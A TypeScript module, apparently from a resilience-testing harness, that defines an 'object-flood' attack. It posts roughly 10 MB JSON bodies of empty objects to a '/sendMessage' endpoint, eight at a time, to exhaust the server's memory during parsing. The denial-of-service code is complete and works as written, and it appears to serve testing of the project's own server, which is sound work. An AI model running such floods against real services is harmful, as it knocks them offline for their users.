import { randomBytes } from 'node:crypto';
import { type Attack, BY_IDENTITY } from './attack.ts';

const BYTES = 10_000_000;
const AT_ONCE = 8;

/** Row 11: text that takes thirty times its size once it is parsed. */
export const objectFlood: Attack = {
  name: 'object-flood',
  does: 'sends whose body is 10 MB of {}, eight at a time',
  shapes: BY_IDENTITY,
  async run(context) {
    const sessions = await context.sessions(AT_ONCE);
    const recipient = context.client(0).identityKey;
    const objects = `[${'{},'.repeat(Math.floor((BYTES - 500) / 3))}{}]`;
    await context.begin();
    await context.repeatOnWires(AT_ONCE, async (wire, worker) => {
      const session = sessions[worker % sessions.length];
      if (session === undefined) throw new Error('no session');
      const messageId = randomBytes(8).toString('hex');
      const head = JSON.stringify({ recipient, messageBox: 'objects', messageId });
      const body = Buffer.from(`{"message":${head.slice(0, -1)},"body":{"objects":${objects}}}}`);
      await wire.exchange(session.post('/sendMessage', body));
    });
  },
};
